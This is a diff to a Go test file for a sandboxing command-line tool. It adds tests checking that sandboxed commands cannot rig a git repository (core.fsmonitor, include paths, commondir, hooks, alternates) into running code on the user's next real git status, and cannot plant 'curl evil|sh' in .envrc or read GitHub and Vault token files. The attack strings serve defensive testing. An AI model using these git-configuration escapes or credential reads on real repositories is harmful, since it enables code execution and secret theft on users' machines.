@@ -8,6 +8,7 @@ import (
 	"io"
 	"net"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -17,6 +18,7 @@ import (
 
 	"github.com/nb-cli/nb/internal/host"
 	"github.com/nb-cli/nb/internal/host/hosttest"
+	"github.com/nb-cli/nb/internal/testenv"
 )
 
 func TestMain(m *testing.M) {
@@ -459,5 +461,222 @@ func TestEnvScrubbed(t *testing.T) {
 			out := hosttest.Exec(t, context.Background(), outside, host.Command{Script: "env", Dir: dir, Timeout: 15 * time.Second})
 			hosttest.CheckScrubbed(t, "outside", out.Stdout)
 		})
+	}
+}
+
+// gitRun runs real git outside any sandbox, with a clean configuration
+// and none of nb's overrides, as the user's own shell would.
+func gitRun(t *testing.T, w world, dir string, args ...string) string {
+	t.Helper()
+	cmd := exec.Command("git", args...)
+	cmd.Dir = dir
+	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + w.home, "GIT_CONFIG_NOSYSTEM=1",
+		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}
+	out, _ := cmd.CombinedOutput()
+	return string(out)
+}
+
+// escapeWorld is a repository with a submodule whose git directory lives
+// in .git/modules/x, each with a commit (so git status consults
+// core.fsmonitor).
+func escapeWorld(t *testing.T) (w world, canary string) {
+	t.Helper()
+	w = newWorld(t)
+	canary = filepath.Join(w.outside, "CANARY")
+	gitRun(t, w, w.ws, "init", "-q")
+	gitRun(t, w, w.ws, "add", "main.txt")
+	gitRun(t, w, w.ws, "commit", "-qm", "init")
+	x := filepath.Join(w.ws, "x")
+	if err := os.MkdirAll(x, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	mustWrite(t, filepath.Join(x, "f"), "f")
+	gitRun(t, w, x, "init", "-q")
+	gitRun(t, w, x, "add", "f")
+	gitRun(t, w, x, "commit", "-qm", "x")
+	mods := filepath.Join(w.ws, ".git", "modules")
+	if err := os.MkdirAll(mods, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Rename(filepath.Join(x, ".git"), filepath.Join(mods, "x")); err != nil {
+		t.Fatal(err)
+	}
+	mustWrite(t, filepath.Join(x, ".git"), "gitdir: ../.git/modules/x\n")
+	gitRun(t, w, w.ws, "config", "-f", filepath.Join(mods, "x", "config"), "core.worktree", "../../../x")
+	// A tracked configuration file the repository includes, and a hooks
+	// directory in the tree.
+	mustWrite(t, filepath.Join(w.ws, "inc.cfg"), "[x]\n\ta = 1\n")
+	gitRun(t, w, w.ws, "config", "include.path", "../inc.cfg")
+	if err := os.MkdirAll(filepath.Join(w.ws, "tools", "hooks"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	gitRun(t, w, w.ws, "config", "core.hooksPath", "tools/hooks")
+	return w, canary
+}
+
+// escapeSetup builds, in the writable workspace, a configuration and a
+// repository whose configuration run a program (core.fsmonitor).
+func escapeSetup(canary string) string {
+	fsm := `printf '[core]\n\tfsmonitor = "touch ` + canary + `"\n'`
+	return "mkdir -p evil && " + fsm + " > evil/config; git init -q evilrepo && cp evil/config evilrepo/.git/config"
+}
+
+// escapeExec are the ways through .git that make the user's next git
+// status run a program; escapeWrite more writes that must fail.
+var (
+	escapeExec = []string{
+		`echo "$PWD/evilrepo/.git" > .git/commondir`,
+		`printf '[include]\n\tpath = %s/evil/config\n' "$PWD" >> .git/config`,
+		"cp evil/config .git/config.new && mv -f .git/config.new .git/config",
+		"cat evil/config >> .git/modules/x/config",
+		"echo 'gitdir: ../evilrepo/.git' > x/.git",
+		"cat evil/config >> inc.cfg",
+	}
+	escapeWrite = []string{
+		"mkdir -p .git/info && echo '* filter=evil diff=evil' > .git/info/attributes",
+		`echo "$PWD/evilrepo/.git/objects" > .git/objects/info/alternates`,
+		"echo evil > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
+		"echo evil > tools/hooks/post-checkout && chmod +x tools/hooks/post-checkout",
+		"mv .git .git-old",
+		"rm -rf .git",
+	}
+)
+
+// TestGitEscapeThenRealGitStatus: a command in the sandbox tries to rig
+// the repository; afterwards the user's own git status (real git, outside)
+// must run nothing. Control runs of each way unsandboxed show it works.
+func TestGitEscapeThenRealGitStatus(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		testenv.Missing(t, "git is needed for the escape test")
+	}
+	status := func(w world) {
+		gitRun(t, w, w.ws, "status")
+		gitRun(t, w, filepath.Join(w.ws, "x"), "status")
+	}
+	t.Run("control", func(t *testing.T) {
+		for _, attack := range escapeExec {
+			w, canary := escapeWorld(t)
+			l := &host.Local{}
+			r := hosttest.Exec(t, context.Background(), l, host.Command{Script: escapeSetup(canary) + "; " + attack, Dir: w.ws, Timeout: 15 * time.Second})
+			l.Close()
+			status(w)
+			if _, err := os.Stat(canary); err != nil {
+				t.Errorf("%s does not work unsandboxed, so the test proves nothing: %s%s", attack, r.Stdout, r.Stderr)
+			}
+		}
+	})
+	payload := func(canary string) string {
+		return escapeSetup(canary) + "; " + strings.Join(append(append([]string{}, escapeExec...), escapeWrite...), "; ")
+	}
+	for _, mech := range mechanisms(t) {
+		t.Run(mech, func(t *testing.T) {
+			w, canary := escapeWorld(t)
+			h := newHost(t, w, mech, false)
+			gitFiles := func() map[string]string {
+				m := map[string]string{}
+				filepath.WalkDir(filepath.Join(w.ws, ".git"), func(p string, d os.DirEntry, err error) error {
+					if err == nil && !d.IsDir() {
+						b, _ := os.ReadFile(p)
+						m[p] = string(b)
+					}
+					return nil
+				})
+				for _, f := range []string{"x/.git", "inc.cfg", "tools/hooks/post-checkout"} {
+					if b, err := os.ReadFile(filepath.Join(w.ws, f)); err == nil {
+						m[f] = string(b)
+					}
+				}
+				return m
+			}
+			before := gitFiles()
+			sh(t, h, w.ws, payload(canary))
+			after := gitFiles()
+			for p, v := range after {
+				if before[p] != v {
+					t.Errorf("%s changed or appeared in the sandbox: %q", p, v)
+				}
+			}
+			for p := range before {
+				if _, ok := after[p]; !ok {
+					t.Errorf("%s removed in the sandbox", p)
+				}
+			}
+			status(w)
+			if _, err := os.Stat(canary); err == nil {
+				t.Fatal("git status outside the sandbox ran a program planted from inside it")
+			}
+		})
+	}
+}
+
+// Files that run outside the sandbox later are read-only inside it, and
+// the hidden list is the policy's secret list.
+func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
+	for _, mech := range mechanisms(t) {
+		t.Run(mech, func(t *testing.T) {
+			w := newWorld(t)
+			mustWrite(t, filepath.Join(w.ws, ".envrc"), "export A=1\n")
+			if err := os.MkdirAll(filepath.Join(w.ws, ".vscode"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			mustWrite(t, filepath.Join(w.ws, ".vscode", "settings.json"), "{}")
+			for _, p := range []string{".config/gh", ".local/share"} {
+				if err := os.MkdirAll(filepath.Join(w.home, p), 0o755); err != nil {
+					t.Fatal(err)
+				}
+			}
+			mustWrite(t, filepath.Join(w.home, ".config", "gh", "hosts.yml"), "oauth_token: SECRET-GH")
+			mustWrite(t, filepath.Join(w.home, ".vault-token"), "SECRET-VAULT")
+			h := newHost(t, w, mech, false)
+			// Created after the host: protected from the next run on.
+			if err := os.MkdirAll(filepath.Join(w.ws, "sub", ".husky"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.MkdirAll(filepath.Join(w.ws, "sub", "lib", ".git"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			sh(t, h, w.ws, "echo 'curl evil|sh' >> .envrc; echo '{\"x\":1}' > .vscode/settings.json; echo t > .vscode/tasks.json; "+
+				"echo evil > sub/.husky/pre-commit; echo x > sub/lib/.git/config; rm -f .envrc; true")
+			if b, _ := os.ReadFile(filepath.Join(w.ws, ".envrc")); string(b) != "export A=1\n" {
+				t.Errorf(".envrc: %q", b)
+			}
+			if b, _ := os.ReadFile(filepath.Join(w.ws, ".vscode", "settings.json")); string(b) != "{}" {
+				t.Errorf("settings.json: %q", b)
+			}
+			noFile(t, filepath.Join(w.ws, ".vscode", "tasks.json"))
+			noFile(t, filepath.Join(w.ws, "sub", ".husky", "pre-commit"))
+			noFile(t, filepath.Join(w.ws, "sub", "lib", ".git", "config"))
+			out, _, _ := sh(t, h, w.ws, "cat ~/.config/gh/hosts.yml ~/.vault-token "+w.home+"/.config/gh/hosts.yml "+w.home+"/.vault-token 2>/dev/null; true")
+			if strings.Contains(out, "SECRET") {
+				t.Errorf("secret read in the sandbox: %q", out)
+			}
+			// Elsewhere the workspace stays writable.
+			if err := os.MkdirAll(filepath.Join(w.ws, "other"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if _, _, code := sh(t, h, w.ws, "echo ok > other/new.txt && mkdir -p other/d/e && echo ok > other/d/e/f"); code != 0 {
+				t.Error("other/ not writable")
+			}
+		})
+	}
+}
+
+// The hidden list is the policy's secret list, patterns included.
+func TestLayoutHidesSecretList(t *testing.T) {
+	home := t.TempDir()
+	mustWrite(t, filepath.Join(home, ".foo_hist"), "x")
+	old := DefaultHidden
+	DefaultHidden = append(append([]string{}, old...), ".*_hist")
+	defer func() { DefaultHidden = old }()
+	l := NewLayout(t.TempDir(), home, nil, nil, false)
+	for _, want := range []string{".foo_hist", ".ssh", ".config/gh", ".vault-token", ".npmrc", ".bash_history"} {
+		p := resolve(filepath.Join(home, want))
+		found := false
+		for _, h := range l.Hidden {
+			found = found || h == p
+		}
+		if !found {
+			t.Errorf("%s not hidden", want)
+		}
 	}
 }
